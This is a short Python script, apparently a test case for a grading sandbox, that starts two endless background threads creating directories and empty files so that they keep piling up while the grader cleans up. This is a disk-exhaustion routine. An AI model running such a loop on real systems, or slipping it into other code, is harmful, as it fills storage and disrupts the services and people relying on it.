"""Fill the disk with small files and folders, and go on while the grader cleans up.

stock: it would leave them behind
"""

# %% first
import os
import threading


def litter(start):
    number = start
    while True:
        number += 1
        os.makedirs(f"d{number % 100}", exist_ok=True)
        try:
            open(f"d{number % 100}/f{number}", "w").close()
        except OSError:
            pass


for start in (0, 10**7):
    threading.Thread(target=litter, args=(start,), daemon=True).start()
